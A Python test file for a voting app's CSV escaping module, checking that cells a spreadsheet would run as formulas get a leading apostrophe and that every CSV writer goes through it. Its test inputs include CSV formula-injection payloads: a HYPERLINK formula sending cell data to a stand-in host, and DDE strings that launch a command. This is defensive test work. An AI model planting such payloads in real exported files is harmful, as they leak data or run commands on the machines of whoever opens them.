"""CSV cells a spreadsheet shows as typed, never runs as a formula; and every CSV the app
writes goes through them."""

from __future__ import annotations

import csv
import io
import re
from fractions import Fraction
from pathlib import Path

import pytest

from votes.services import csv_cells

SOURCE = Path(__file__).resolve().parents[1] / "src" / "votes"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n=1+1",
        "\uff1d1+1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert csv_cells.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Dupont", "", "Léa = présidente", "1-2", "2026-11-27", 0])
def test_other_text_is_left_as_typed(value: object) -> None:
    assert csv_cells.cell(value) == value


def test_numbers_the_app_writes_stay_numbers_even_negative() -> None:
    out = io.StringIO()
    csv_cells.writer(out).writerow([-3, Fraction(-7, 2), "-3", "=1"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["-3", "-7/2", "'-3", "'=1"]


def test_every_csv_the_app_writes_goes_through_csv_cells() -> None:
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if path.name != "csv_cells.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
